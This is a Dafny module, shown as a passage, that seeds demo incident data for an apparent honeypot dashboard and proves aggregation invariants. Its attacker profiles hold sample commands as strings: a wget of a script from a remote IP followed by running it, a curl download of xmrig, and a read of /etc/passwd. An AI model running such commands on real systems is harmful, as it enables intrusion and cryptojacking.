/** Demo seeding: a second builder of incident aggregates. */
module Seeder {
  import opened Lists
  import opened Intel
  import opened Store
  import opened Incidents
  import opened Ingest
  import opened History
  import opened Lifecycle

  datatype Source = Source(ip: string, country: string, asn: string, isp: string)

  const SOURCES: seq<Source> := [
    Source("185.220.100.5", "Russia", "AS205100", "FlokiNET"),
    Source("45.95.147.20", "Netherlands", "AS202425", "IP Volume inc"),
    Source("103.97.176.10", "China", "AS4837", "China Unicom"),
    Source("191.96.227.8", "Brazil", "AS262287", "Latitude.sh"),
    Source("196.196.150.3", "South Africa", "AS37153", "Xneelo"),
    Source("8.8.8.8", "United States", "AS15169", "Google LLC"),
    Source("212.70.149.71", "Bulgaria", "AS9009", "M247")]

  datatype Profile = Profile(behaviors: seq<Tag>, techniques: seq<Technique>, commands: seq<string>, risk: int)

  /** The attacker profiles, used in turn. */
  function NthProfile(i: nat): Profile {
    match i % 6
    case 0 => Profile([CommonCredentialUse, BruteForce, KnownMaliciousSource, ToolTransfer, CronPersistence,
                       PostAuthActivity],
                      [T1078, T1110, T1105, T1053_003, T1021_004],
                      ["uname -a", "wget http://45.95.147.20/x.sh", "chmod +x x.sh", "./x.sh", "crontab -e"], 96)
    case 1 => Profile([CommonCredentialUse, BruteForce, KnownMaliciousSource, Cryptomining, PostAuthActivity],
                      [T1078, T1110, T1496, T1021_004],
                      ["curl -O http://pool/xmrig", "./xmrig --donate-level 1"], 91)
    case 2 => Profile([CommonCredentialUse, BruteForce, SystemDiscovery, UserDiscovery, AccountDiscovery,
                       PostAuthActivity],
                      [T1078, T1110, T1082, T1033, T1087, T1021_004],
                      ["whoami", "id", "uname -a", "cat /etc/passwd"], 78)
    case 3 => Profile([CommonCredentialUse, BruteForce, PostAuthActivity],
                      [T1078, T1110, T1021_004],
                      ["ls -la", "w"], 52)
    case 4 => Profile([CommonCredentialUse, BruteForce], [T1078, T1110], [], 35)
    case _ => Profile([BruteForce], [T1110], [], 22)
  }

  /** One round of random draws. */
  datatype Draw = Draw(
    source: nat,
    jitter: int,
    minutes: int,
    attempts: int,
    port: int,
    reputation: int,
    username: string,
    password: string,
    sshVersion: string,
    sessionId: string,
    duration: real,
    firstIsExec: bool)

  /** The ranges the generator draws from. */
  predicate InRange(d: Draw) {
    d.source < 7 && -4 <= d.jitter <= 4 && 1 <= d.minutes <= 24 * 60 && 3 <= d.attempts <= 25
  }

  function RiskLevel(score: int): Level { if score > 70 then High else if score > 30 then Medium else Low }

  /** The seeder's levels are those of the default bands. */
  lemma LevelsAreDefault(cfg: Config, score: int)
    requires cfg.lowMax == 30 && cfg.mediumMax == 70
    ensures RiskLevel(score) == cfg.LevelFor(score)
  {
  }

  const MINUTE: int := 60_000_000

  /** The attack of round `i`, keys still unassigned. */
  function SeedAttack(now: Instant, i: nat, d: Draw): Attack
    requires InRange(d)
  {
    SourceCount();
    var src, prof := SOURCES[d.source], NthProfile(i);
    var ts, risk := now - d.minutes * MINUTE, Clamp(0, 100, prof.risk + d.jitter);
    var bad := KnownMaliciousSource in prof.behaviors;
    Attack(0, ts, src.ip, Some(d.port), Some(src.country), Some(src.asn), Some(src.isp),
           if bad then 100 else d.reputation, bad, Some(d.username), Some(d.password), Some(d.sshVersion),
           d.sessionId, d.duration, d.attempts, risk, RiskLevel(risk), prof.behaviors, prof.techniques,
           seq(|prof.commands|, j requires 0 <= j < |prof.commands| =>
             Command(d.sessionId, ts + (j + 1) * 1_000_000, prof.commands[j],
                     if j == 0 && d.firstIsExec then "exec" else "shell")), 0)
  }

  lemma SourceCount()
    ensures |SOURCES| == 7
  {
  }

  function SeedAttacks(now: Instant, draws: seq<Draw>): seq<Attack>
    requires forall i :: 0 <= i < |draws| ==> InRange(draws[i])
  {
    seq(|draws|, i requires 0 <= i < |draws| => SeedAttack(now, i, draws[i]))
  }

  // --------------------------------------------------------- specification

  /** The loop's state: the tables and the dictionary from IP to the incident made for it. */
  datatype Seeding = Seeding(db: Tables, made: map<string, nat>)

  function Pending(id: nat, a: Attack): Incident {
    Incident(id, a.sourceIp, a.country, "", a.timestamp, a.timestamp, 0, 0, Open, [])
  }

  /** A row after one more seeded attack. */
  function Grown(row: Incident, a: Attack): Incident {
    var count := row.attemptCount + a.authAttempts;
    row.(firstSeen := Min(row.firstSeen, a.timestamp),
         lastSeen := Max(row.lastSeen, a.timestamp),
         attemptCount := count,
         maxRisk := Max(row.maxRisk, a.riskScore),
         techniques := Dedup(row.techniques + a.techniques),
         title := Title(row.sourceIp, a.country, count))
  }

  ghost predicate Consistent(s: Seeding) {
    forall ip :: ip in s.made ==> s.made[ip] < |s.db.incidents|
  }

  function SeedStep(s: Seeding, a: Attack): Seeding {
    var db, known := s.db, a.sourceIp in s.made && s.made[a.sourceIp] < |s.db.incidents|;
    var k := if known then s.made[a.sourceIp] else |db.incidents|;
    var row := Grown(if known then db.incidents[k] else Pending(db.nextIncident, a), a);
    var stored := a.(id := db.nextAttack, incidentId := row.id);
    if known then
      s.(db := Tables(db.attacks + [stored], db.incidents[k := row], db.nextAttack + 1, db.nextIncident))
    else
      Seeding(Tables(db.attacks + [stored], db.incidents + [row], db.nextAttack + 1, db.nextIncident + 1),
              s.made[a.sourceIp := k])
  }

  function SeedAll(db: Tables, attacks: seq<Attack>): Seeding {
    if attacks == [] then Seeding(db, map[])
    else SeedStep(SeedAll(db, attacks[..|attacks| - 1]), attacks[|attacks| - 1])
  }

  // -------------------------------------------------------------- the engine

  /** Seed when the attacks table is empty or `force` is set; the number of attacks created. */
  method SeedIfEmpty(db: Database, force: bool, now: Instant, draws: seq<Draw>) returns (created: nat)
    requires forall i :: 0 <= i < |draws| ==> InRange(draws[i])
    modifies db
    ensures !force && old(db.attacks) != [] ==> created == 0 && db.State() == old(db.State())
    ensures force || old(db.attacks) == [] ==>
      created == |draws| && db.State() == SeedAll(old(db.State()), SeedAttacks(now, draws)).db
  {
    if !force && db.attacks != [] { return 0; }
    var s := new Session(db);
    created := SeedLoop(s, SeedAttacks(now, draws));
    s.Commit();
  }

  /** One round per drawn attack. */
  method SeedLoop(s: Session, attacks: seq<Attack>) returns (created: nat)
    modifies s, s.db`nextAttack, s.db`nextIncident
    ensures created == |attacks|
    ensures Loop(s, map[]).db == SeedAll(old(Loop(s, map[]).db), attacks).db
  {
    ghost var start := Loop(s, map[]).db;
    var incidents: map<string, nat> := map[];
    created := 0;
    for i := 0 to |attacks|
      invariant created == i
      invariant Loop(s, incidents) == SeedAll(start, attacks[..i]) && Consistent(Loop(s, incidents))
    {
      assert attacks[..i + 1][..i] == attacks[..i];
      incidents := SeedOne(s, incidents, attacks[i]);
      created := created + 1;
    }
    assert attacks[..|attacks|] == attacks;
  }

  /** The loop's state as the session sees it. */
  function Loop(s: Session, incidents: map<string, nat>): Seeding
    reads s, s.db
  {
    Seeding(Tables(s.attacks, s.incidents, s.db.nextAttack, s.db.nextIncident), incidents)
  }

  /** The body of the loop: find or create the incident in the dictionary, grow it, add the attack. */
  method SeedOne(s: Session, incidents: map<string, nat>, a: Attack) returns (incidents': map<string, nat>)
    requires Consistent(Loop(s, incidents))
    modifies s, s.db`nextAttack, s.db`nextIncident
    ensures Loop(s, incidents') == SeedStep(old(Loop(s, incidents)), a) && Consistent(Loop(s, incidents'))
  {
    incidents' := incidents;
    if a.sourceIp !in incidents {
      incidents' := incidents[a.sourceIp := |s.incidents|];
      s.incidents := s.incidents + [Pending(s.db.nextIncident, a)];
      s.db.nextIncident := s.db.nextIncident + 1;
    }
    var k := incidents'[a.sourceIp];
    var row := Grown(s.incidents[k], a);
    s.incidents := s.incidents[k := row];
    var _ := s.FlushAttack(a.(incidentId := row.id));
  }

  // ----------------------------------------------------------- seeded tables

  /** The same IP always comes with the same, non-empty country. */
  ghost predicate CountryFollowsIp(attacks: seq<Attack>) {
    (forall i :: 0 <= i < |attacks| ==> Truthy(attacks[i].country)) &&
    forall i, j :: 0 <= i < |attacks| && 0 <= j < |attacks| && attacks[i].sourceIp == attacks[j].sourceIp ==>
      attacks[i].country == attacks[j].country
  }

  ghost predicate Plausible(attacks: seq<Attack>) {
    CountryFollowsIp(attacks) &&
    forall i :: 0 <= i < |attacks| ==> 0 <= attacks[i].riskScore <= 100 && attacks[i].authAttempts >= 1
  }

  /** The consistency of a database, leaving aside which incidents are live. */
  ghost predicate Sane(db: Tables) { Keys(db) && Links(db) && ExactViews(db) && ScoresInRange(db) }

  /** Row `k` is the one the dictionary has for its IP, live, and its window is truthful. */
  ghost predicate SeededRow(s: Seeding, all: seq<Attack>, k: nat)
    requires k < |s.db.incidents|
  {
    var row := s.db.incidents[k];
    row.status == Open && row.sourceIp in s.made && s.made[row.sourceIp] == k && CountryFits(row, all) &&
    Truthful(row, Linked(s.db.attacks, row.id))
  }

  /** Every dictionary entry is a row made for its IP. */
  ghost predicate Dictionary(s: Seeding, n: nat) {
    forall ip :: ip in s.made ==> n <= s.made[ip] < |s.db.incidents| && s.db.incidents[s.made[ip]].sourceIp == ip
  }

  /** What holds while seeding over `base`: its rows are untouched, and each new row is the
      exact, truthful view for one IP of the dictionary. */
  ghost predicate SeedInv(base: Tables, s: Seeding, all: seq<Attack>) {
    var n := |base.incidents|;
    Sane(s.db) && n <= |s.db.incidents| && s.db.incidents[..n] == base.incidents && Dictionary(s, n) &&
    forall k :: n <= k < |s.db.incidents| ==> SeededRow(s, all, k)
  }

  ghost predicate CountryFits(row: Incident, all: seq<Attack>) {
    Truthy(row.country) &&
    forall i :: 0 <= i < |all| && all[i].sourceIp == row.sourceIp ==> all[i].country == row.country
  }

  /** Growing a seeded row keeps its view exact and its window truthful. */
  lemma GrowKeepsView(row: Incident, linked: seq<Attack>, a: Attack)
    requires Aggregates(row, linked) && Truthful(row, linked) && Truthy(row.country)
    requires a.authAttempts >= 1 && a.country == row.country
    ensures Aggregates(Grown(row, a), linked + [a]) && Truthful(Grown(row, a), linked + [a])
  {
    var both := linked + [a];
    assert both[..|both| - 1] == linked;
    ViewCountryAppend(linked, a);
    DedupLeft(AllTechniques(linked), a.techniques);
    GrowKeepsWindow(row, linked, a);
  }

  lemma GrowKeepsWindow(row: Incident, linked: seq<Attack>, a: Attack)
    requires Truthful(row, linked)
    ensures Truthful(Grown(row, a), linked + [a])
  {
    var both := linked + [a];
    var f :| 0 <= f < |linked| && linked[f].timestamp == row.firstSeen;
    var l :| 0 <= l < |linked| && linked[l].timestamp == row.lastSeen;
    assert both[f] == linked[f] && both[l] == linked[l] && both[|linked|] == a;
  }

  lemma NewKeepsView(id: nat, a: Attack)
    requires a.riskScore >= 0 && a.authAttempts >= 1 && Truthy(a.country)
    ensures Aggregates(Grown(Pending(id, a), a), [a]) && Truthful(Grown(Pending(id, a), a), [a])
  {
    assert [a][..0] == [];
    assert [a][0].country == a.country;
    assert [] + a.techniques == a.techniques;
    assert AllTechniques([a]) == a.techniques;
    var k := FirstKnown([a]);
    assert [a][0].timestamp == a.timestamp;
  }

  lemma SeedStepKeepsInv(base: Tables, s: Seeding, all: seq<Attack>, i: nat)
    requires SeedInv(base, s, all) && Plausible(all) && i < |all|
    ensures SeedInv(base, SeedStep(s, all[i]), all)
  {
    var a := all[i];
    if a.sourceIp in s.made { SeedKnown(base, s, all, a); } else { SeedFresh(base, s, all, a); }
  }

  /** The part shared by both branches: row `k` took the attack, the others kept theirs. */
  lemma SeededShape(base: Tables, s: Seeding, s': Seeding, all: seq<Attack>, k: nat, stored: Attack)
    requires SeedInv(base, s, all)
    requires StoredIn(s.db, s'.db, k, stored) && k >= |base.incidents| && 0 <= stored.riskScore <= 100
    requires s'.db.incidents[k].status == Open && CountryFits(s'.db.incidents[k], all)
    requires Aggregates(s'.db.incidents[k], Linked(s'.db.attacks, stored.incidentId))
    requires Truthful(s'.db.incidents[k], Linked(s'.db.attacks, stored.incidentId))
    requires s'.made == s.made[stored.sourceIp := k]
    requires k < |s.db.incidents| ==> stored.sourceIp in s.made && s.made[stored.sourceIp] == k
    requires k == |s.db.incidents| ==> stored.sourceIp !in s.made
    ensures SeedInv(base, s', all)
  {
    StoredKeepsShape(s.db, s'.db, k, stored);
    SeededViews(s.db, s'.db, k, stored);
    BaseKept(base, s.db, s'.db, k, stored);
    DictionaryKept(s, s', |base.incidents|, k, stored);
    forall j | |base.incidents| <= j < |s'.db.incidents| ensures SeededRow(s', all, j) {
      if j != k {
        assert SeededRow(s, all, j);
        OtherRow(s, s', all, k, stored, j);
      }
    }
  }

  lemma BaseKept(base: Tables, db: Tables, db': Tables, k: nat, stored: Attack)
    requires StoredIn(db, db', k, stored) && |base.incidents| <= k && 0 <= stored.riskScore <= 100
    requires |base.incidents| <= |db.incidents| && db.incidents[..|base.incidents|] == base.incidents
    requires ScoresInRange(db)
    ensures db'.incidents[..|base.incidents|] == base.incidents && ScoresInRange(db')
  {
  }

  lemma DictionaryKept(s: Seeding, s': Seeding, n: nat, k: nat, stored: Attack)
    requires Dictionary(s, n) && StoredIn(s.db, s'.db, k, stored) && n <= k
    requires s'.made == s.made[stored.sourceIp := k]
    ensures Dictionary(s', n)
  {
    forall ip | ip in s'.made
      ensures n <= s'.made[ip] < |s'.db.incidents| && s'.db.incidents[s'.made[ip]].sourceIp == ip
    {
      if ip != stored.sourceIp { assert ip in s.made; }
    }
  }

  lemma OtherRow(s: Seeding, s': Seeding, all: seq<Attack>, k: nat, stored: Attack, j: nat)
    requires StoredIn(s.db, s'.db, k, stored) && Keys(s'.db) && s'.made == s.made[stored.sourceIp := k]
    requires j < |s.db.incidents| && j != k && SeededRow(s, all, j)
    requires k < |s.db.incidents| ==> stored.sourceIp in s.made && s.made[stored.sourceIp] == k
    requires k == |s.db.incidents| ==> stored.sourceIp !in s.made
    ensures SeededRow(s', all, j)
  {
    assert s'.db.incidents[j] == s.db.incidents[j];
    LinkedOther(s.db.attacks, stored, s'.db.incidents[j].id);
  }

  lemma SeededViews(db: Tables, db': Tables, k: nat, stored: Attack)
    requires ExactViews(db) && Keys(db') && StoredIn(db, db', k, stored)
    requires Aggregates(db'.incidents[k], Linked(db'.attacks, stored.incidentId))
    ensures ExactViews(db')
  {
    forall j | 0 <= j < |db'.incidents| && j != k
      ensures Linked(db'.attacks, db'.incidents[j].id) == Linked(db.attacks, db.incidents[j].id)
    {
      LinkedOther(db.attacks, stored, db'.incidents[j].id);
    }
  }

  lemma SeedKnown(base: Tables, s: Seeding, all: seq<Attack>, a: Attack)
    requires SeedInv(base, s, all) && Plausible(all) && a in all && a.sourceIp in s.made
    ensures SeedInv(base, SeedStep(s, a), all)
  {
    var k := s.made[a.sourceIp];
    var row, row' := s.db.incidents[k], Grown(s.db.incidents[k], a);
    var stored := a.(id := s.db.nextAttack, incidentId := row'.id);
    var s' := SeedStep(s, a);
    KnownStep(s, a);
    assert SeededRow(s, all, k);
    assert a.country == row.country by { var i :| 0 <= i < |all| && all[i] == a; }
    KnownView(s.db, k, row', stored);
    SeededShape(base, s, s', all, k, stored);
  }

  lemma KnownStep(s: Seeding, a: Attack)
    requires a.sourceIp in s.made && s.made[a.sourceIp] < |s.db.incidents|
    requires s.db.incidents[s.made[a.sourceIp]].sourceIp == a.sourceIp
    ensures
      var k := s.made[a.sourceIp];
      var row' := Grown(s.db.incidents[k], a);
      var stored := a.(id := s.db.nextAttack, incidentId := row'.id);
      SeedStep(s, a).made == s.made[stored.sourceIp := k] && SeedStep(s, a).db.incidents[k] == row' &&
      Grown(s.db.incidents[k], stored) == row' && StoredIn(s.db, SeedStep(s, a).db, k, stored)
  {
  }

  lemma KnownView(db: Tables, k: nat, row': Incident, stored: Attack)
    requires ExactViews(db) && k < |db.incidents| && Truthy(db.incidents[k].country)
    requires Truthful(db.incidents[k], Linked(db.attacks, db.incidents[k].id))
    requires stored.authAttempts >= 1 && stored.country == db.incidents[k].country
    requires row' == Grown(db.incidents[k], stored) && stored.incidentId == row'.id
    ensures Aggregates(row', Linked(db.attacks + [stored], stored.incidentId))
    ensures Truthful(row', Linked(db.attacks + [stored], stored.incidentId))
  {
    var linked := Linked(db.attacks, db.incidents[k].id);
    assert Aggregates(db.incidents[k], linked);
    GrowKeepsView(db.incidents[k], linked, stored);
    LinkedAppend(db.attacks, stored, row'.id);
  }

  lemma FreshStep(s: Seeding, a: Attack)
    requires a.sourceIp !in s.made
    ensures
      var k, row' := |s.db.incidents|, Grown(Pending(s.db.nextIncident, a), a);
      var stored := a.(id := s.db.nextAttack, incidentId := row'.id);
      SeedStep(s, a).made == s.made[stored.sourceIp := k] && StoredIn(s.db, SeedStep(s, a).db, k, stored) &&
      SeedStep(s, a).db.incidents == s.db.incidents + [row'] && SeedStep(s, a).db.attacks == s.db.attacks + [stored] &&
      Grown(Pending(s.db.nextIncident, stored), stored) == row'
  {
  }

  lemma SeedFresh(base: Tables, s: Seeding, all: seq<Attack>, a: Attack)
    requires SeedInv(base, s, all) && Plausible(all) && a in all && a.sourceIp !in s.made
    ensures SeedInv(base, SeedStep(s, a), all)
  {
    var k, row' := |s.db.incidents|, Grown(Pending(s.db.nextIncident, a), a);
    var stored := a.(id := s.db.nextAttack, incidentId := row'.id);
    var s' := SeedStep(s, a);
    FreshStep(s, a);
    assert CountryFits(row', all) by { var i :| 0 <= i < |all| && all[i] == a; }
    NewKeepsView(s.db.nextIncident, stored);
    FreshKeyUnlinked(s.db);
    LinkedAppend(s.db.attacks, stored, row'.id);
    assert [] + [stored] == [stored];
    SeededShape(base, s, s', all, k, stored);
  }

  lemma {:induction false} SeedAllKeepsInv(base: Tables, all: seq<Attack>, n: nat)
    requires Sane(base) && Plausible(all) && n <= |all|
    ensures SeedInv(base, SeedAll(base, all[..n]), all)
  {
    if n > 0 {
      SeedAllKeepsInv(base, all, n - 1);
      assert all[..n][..n - 1] == all[..n - 1];
      SeedStepKeepsInv(base, SeedAll(base, all[..n - 1]), all, n - 1);
    } else {
      assert all[..0] == [];
    }
  }

  function Ips(attacks: seq<Attack>): set<string> {
    if attacks == [] then {} else Ips(attacks[..|attacks| - 1]) + {attacks[|attacks| - 1].sourceIp}
  }

  lemma {:induction false} IpsMembers(attacks: seq<Attack>)
    ensures forall i :: 0 <= i < |attacks| ==> attacks[i].sourceIp in Ips(attacks)
    ensures forall ip :: ip in Ips(attacks) ==> exists i :: 0 <= i < |attacks| && attacks[i].sourceIp == ip
  {
    if attacks != [] {
      var n := |attacks| - 1;
      IpsMembers(attacks[..n]);
      forall i | 0 <= i < n ensures attacks[i].sourceIp in Ips(attacks) {
        assert attacks[..n][i] == attacks[i];
      }
      forall ip | ip in Ips(attacks) ensures exists i :: 0 <= i < |attacks| && attacks[i].sourceIp == ip {
        if ip in Ips(attacks[..n]) {
          var i :| 0 <= i < n && attacks[..n][i].sourceIp == ip;
          assert attacks[i].sourceIp == ip;
        } else {
          assert attacks[n].sourceIp == ip;
        }
      }
    }
  }

  lemma StepMade(s: Seeding, n: nat, a: Attack)
    requires Dictionary(s, n)
    ensures SeedStep(s, a).made.Keys == s.made.Keys + {a.sourceIp}
  {
  }

  lemma SeedAllDictionary(base: Tables, all: seq<Attack>, n: nat)
    requires Sane(base) && Plausible(all) && n <= |all|
    ensures Dictionary(SeedAll(base, all[..n]), |base.incidents|)
  {
    SeedAllKeepsInv(base, all, n);
  }

  lemma SeedAllStep(base: Tables, all: seq<Attack>, n: nat)
    requires 0 < n <= |all|
    ensures SeedAll(base, all[..n]) == SeedStep(SeedAll(base, all[..n - 1]), all[n - 1])
    ensures Ips(all[..n]) == Ips(all[..n - 1]) + {all[n - 1].sourceIp}
  {
    assert all[..n][..n - 1] == all[..n - 1];
  }

  /** The dictionary has exactly the IPs drawn. */
  lemma {:induction false} MadeAreDrawn(base: Tables, all: seq<Attack>, n: nat)
    requires Sane(base) && Plausible(all) && n <= |all|
    ensures SeedAll(base, all[..n]).made.Keys == Ips(all[..n])
  {
    if n > 0 {
      MadeAreDrawn(base, all, n - 1);
      SeedAllDictionary(base, all, n - 1);
      MadeStep(base, all, n);
    } else {
      assert all[..0] == [];
    }
  }

  lemma MadeStep(base: Tables, all: seq<Attack>, n: nat)
    requires 0 < n <= |all| && Dictionary(SeedAll(base, all[..n - 1]), |base.incidents|)
    requires SeedAll(base, all[..n - 1]).made.Keys == Ips(all[..n - 1])
    ensures SeedAll(base, all[..n]).made.Keys == Ips(all[..n])
  {
    SeedAllStep(base, all, n);
    StepMade(SeedAll(base, all[..n - 1]), |base.incidents|, all[n - 1]);
  }

  // ------------------------------------------------------------ main results

  /** Seeding an empty database establishes the pipeline's invariant, with exactly one incident
      for each IP drawn and truthful windows; the pipeline then keeps the invariant. */
  lemma {:induction false} SeedingEstablishesCore(attacks: seq<Attack>, es: seq<Event>)
    requires Plausible(attacks)
    ensures
      var db := SeedAll(EMPTY, attacks).db;
      Core(db) && Core(Run(db, es)) &&
      (forall i, j :: 0 <= i < j < |db.incidents| ==> db.incidents[i].sourceIp != db.incidents[j].sourceIp) &&
      (forall i :: 0 <= i < |attacks| ==>
        exists k :: 0 <= k < |db.incidents| && db.incidents[k].sourceIp == attacks[i].sourceIp) &&
      (forall k :: 0 <= k < |db.incidents| ==>
        db.incidents[k].status == Open && Truthful(db.incidents[k], Linked(db.attacks, db.incidents[k].id)))
  {
    var s := SeedAll(EMPTY, attacks);
    SeedAllKeepsInv(EMPTY, attacks, |attacks|);
    assert attacks[..|attacks|] == attacks;
    DrawnHaveRows(attacks);
    SeededRows(s, attacks);
    RunKeepsCore(s.db, es);
  }

  lemma DrawnHaveRows(attacks: seq<Attack>)
    requires Plausible(attacks)
    ensures
      var db := SeedAll(EMPTY, attacks).db;
      forall i :: 0 <= i < |attacks| ==>
        exists k :: 0 <= k < |db.incidents| && db.incidents[k].sourceIp == attacks[i].sourceIp
  {
    var s := SeedAll(EMPTY, attacks);
    MadeAreDrawn(EMPTY, attacks, |attacks|);
    SeedAllDictionary(EMPTY, attacks, |attacks|);
    assert attacks[..|attacks|] == attacks;
    IpsMembers(attacks);
    forall i | 0 <= i < |attacks|
      ensures exists k :: 0 <= k < |s.db.incidents| && s.db.incidents[k].sourceIp == attacks[i].sourceIp
    {
      HasRow(s, attacks[i].sourceIp);
    }
  }

  lemma HasRow(s: Seeding, ip: string)
    requires Dictionary(s, 0) && ip in s.made
    ensures exists k :: 0 <= k < |s.db.incidents| && s.db.incidents[k].sourceIp == ip
  {
    assert s.db.incidents[s.made[ip]].sourceIp == ip;
  }

  lemma SeededRows(s: Seeding, all: seq<Attack>)
    requires SeedInv(EMPTY, s, all)
    ensures forall i, j :: 0 <= i < j < |s.db.incidents| ==> s.db.incidents[i].sourceIp != s.db.incidents[j].sourceIp
    ensures forall k :: 0 <= k < |s.db.incidents| ==>
      s.db.incidents[k].status == Open && Truthful(s.db.incidents[k], Linked(s.db.attacks, s.db.incidents[k].id))
  {
    forall k | 0 <= k < |s.db.incidents|
      ensures s.db.incidents[k].sourceIp in s.made && s.made[s.db.incidents[k].sourceIp] == k
      ensures s.db.incidents[k].status == Open
      ensures Truthful(s.db.incidents[k], Linked(s.db.attacks, s.db.incidents[k].id))
    {
      assert SeededRow(s, all, k);
    }
  }

  lemma SeededIsNotEmpty(base: Tables, attacks: seq<Attack>)
    requires attacks != []
    ensures SeedAll(base, attacks).db.attacks != []
  {
  }

  /** Seeding is idempotent: after a call that had rounds to run, another call without `force`
      creates nothing and leaves the database as the first call left it. */
  method SeedTwice(db: Database, force: bool, now: Instant, draws: seq<Draw>, later: Instant, more: seq<Draw>)
    returns (created: nat, again: nat)
    requires draws != [] && forall i :: 0 <= i < |draws| ==> InRange(draws[i])
    requires forall i :: 0 <= i < |more| ==> InRange(more[i])
    modifies db
    ensures again == 0
    ensures db.State() == if force || old(db.attacks) == [] then SeedAll(old(db.State()), SeedAttacks(now, draws)).db
                          else old(db.State())
  {
    SeededIsNotEmpty(db.State(), SeedAttacks(now, draws));
    created := SeedIfEmpty(db, force, now, draws);
    again := SeedIfEmpty(db, false, later, more);
  }

  /** No drawn IP has a live incident in the database that is seeded. */
  ghost predicate NoneLive(base: Tables, attacks: seq<Attack>) {
    forall i, k :: (0 <= i < |attacks| && 0 <= k < |base.incidents| &&
      base.incidents[k].sourceIp == attacks[i].sourceIp) ==> base.incidents[k].status == Closed
  }

  /** Forced seeding of a consistent database keeps the rest of the invariant, and leaves two live
      incidents of one IP exactly when some drawn IP had a live incident before. */
  lemma {:induction false} ForcedSeedIff(base: Tables, attacks: seq<Attack>)
    requires Core(base) && Plausible(attacks)
    ensures
      var db := SeedAll(base, attacks).db;
      Sane(db) && (AtMostOneLive(db.incidents) <==> NoneLive(base, attacks)) &&
      (OnlyLastLive(db.incidents) <==> NoneLive(base, attacks))
  {
    var s := SeedAll(base, attacks);
    SeedAllKeepsInv(base, attacks, |attacks|);
    MadeAreDrawn(base, attacks, |attacks|);
    assert attacks[..|attacks|] == attacks;
    NoneLiveMade(base, s, attacks);
    ForcedIff(base, s, attacks);
  }

  lemma NoneLiveMade(base: Tables, s: Seeding, attacks: seq<Attack>)
    requires s.made.Keys == Ips(attacks)
    ensures NoneLive(base, attacks) <==> forall ip :: ip in s.made ==> LiveIndex(base.incidents, ip) < 0
  {
    IpsMembers(attacks);
    forall ip ensures LiveIndex(base.incidents, ip) < 0 <==>
      forall k :: 0 <= k < |base.incidents| && base.incidents[k].sourceIp == ip ==> base.incidents[k].status == Closed
    {
      LiveIndexFinds(base.incidents, ip);
    }
  }

  lemma ForcedIff(base: Tables, s: Seeding, all: seq<Attack>)
    requires OnlyLastLive(base.incidents) && SeedInv(base, s, all)
    ensures OnlyLastLive(s.db.incidents) <==> forall ip :: ip in s.made ==> LiveIndex(base.incidents, ip) < 0
    ensures AtMostOneLive(s.db.incidents) <==> forall ip :: ip in s.made ==> LiveIndex(base.incidents, ip) < 0
  {
    if ip :| ip in s.made && LiveIndex(base.incidents, ip) >= 0 {
      var k, m := SecondLive(base, s, all, ip);
    } else {
      StillOneLive(base, s, all);
    }
  }

  /** The incident `ip` had and the one seeding made for it are both live. */
  lemma SecondLive(base: Tables, s: Seeding, all: seq<Attack>, ip: string) returns (k: nat, m: nat)
    requires SeedInv(base, s, all) && ip in s.made && LiveIndex(base.incidents, ip) >= 0
    ensures k < m < |s.db.incidents| && s.db.incidents[k].sourceIp == s.db.incidents[m].sourceIp == ip
    ensures s.db.incidents[k].status != Closed && s.db.incidents[m].status != Closed
  {
    var rows := s.db.incidents;
    k, m := LiveIndex(base.incidents, ip), s.made[ip];
    assert rows[k] == rows[..|base.incidents|][k];
    assert SeededRow(s, all, m);
  }

  /** It does happen: seeding twice with `force` and the same draws, as the fixed random seed
      makes it, opens a second live incident. */
  lemma ReseedingOpensSecond(now: Instant, later: Instant, draws: seq<Draw>)
    requires draws != [] && forall i :: 0 <= i < |draws| ==> InRange(draws[i])
    ensures !AtMostOneLive(SeedAll(SeedAll(EMPTY, SeedAttacks(now, draws)).db, SeedAttacks(later, draws)).db.incidents)
  {
    var first, second := SeedAttacks(now, draws), SeedAttacks(later, draws);
    DrawnArePlausible(now, draws);
    DrawnArePlausible(later, draws);
    assert first[0].sourceIp == second[0].sourceIp;
    SecondSeedingBreaks(first, second);
  }

  lemma SecondSeedingBreaks(first: seq<Attack>, second: seq<Attack>)
    requires Plausible(first) && Plausible(second) && first != [] && second != []
    requires first[0].sourceIp == second[0].sourceIp
    ensures !AtMostOneLive(SeedAll(SeedAll(EMPTY, first).db, second).db.incidents)
  {
    SeedingEstablishesCore(first, []);
    SeededIsLive(first);
    ForcedSeedIff(SeedAll(EMPTY, first).db, second);
  }

  /** The first drawn IP has a live incident after seeding. */
  lemma SeededIsLive(attacks: seq<Attack>)
    requires Plausible(attacks) && attacks != []
    ensures LiveIndex(SeedAll(EMPTY, attacks).db.incidents, attacks[0].sourceIp) >= 0
  {
    var s := SeedAll(EMPTY, attacks);
    SeedAllKeepsInv(EMPTY, attacks, |attacks|);
    MadeAreDrawn(EMPTY, attacks, |attacks|);
    assert attacks[..|attacks|] == attacks;
    IpsMembers(attacks);
    MadeIsLive(s, attacks, attacks[0].sourceIp);
  }

  lemma MadeIsLive(s: Seeding, all: seq<Attack>, ip: string)
    requires SeedInv(EMPTY, s, all) && ip in s.made
    ensures LiveIndex(s.db.incidents, ip) >= 0
  {
    assert SeededRow(s, all, s.made[ip]);
    LiveIndexFinds(s.db.incidents, ip);
  }

  lemma StillOneLive(base: Tables, s: Seeding, all: seq<Attack>)
    requires OnlyLastLive(base.incidents) && SeedInv(base, s, all)
    requires forall ip :: ip in s.made ==> LiveIndex(base.incidents, ip) < 0
    ensures OnlyLastLive(s.db.incidents)
  {
    var rows, n := s.db.incidents, |base.incidents|;
    forall k | n <= k < |rows| ensures rows[k].sourceIp in s.made && s.made[rows[k].sourceIp] == k {
      assert SeededRow(s, all, k);
    }
    forall k | 0 <= k < n ensures rows[k] == base.incidents[k] {
      assert rows[k] == rows[..n][k];
    }
    forall i, j | 0 <= i < j < |rows| && rows[i].sourceIp == rows[j].sourceIp ensures rows[i].status == Closed {
      if i < n <= j {
        LiveIndexFinds(base.incidents, rows[i].sourceIp);
      }
    }
  }

  /** `after` is `before` followed by the drawn attacks in order, under the next keys. */
  ghost predicate Appended(before: Tables, attacks: seq<Attack>, after: Tables) {
    var n := |before.attacks|;
    after.nextAttack == before.nextAttack + |attacks| &&
    |after.attacks| == n + |attacks| && after.attacks[..n] == before.attacks &&
    forall i :: n <= i < n + |attacks| ==>
      after.attacks[i] ==
        attacks[i - n].(id := before.nextAttack + i - n, incidentId := after.attacks[i].incidentId)
  }

  lemma OneMoreAppended(before: Tables, attacks: seq<Attack>, k: nat, mid: Tables, after: Tables)
    requires |attacks| == k + 1 && Appended(before, attacks[..k], mid)
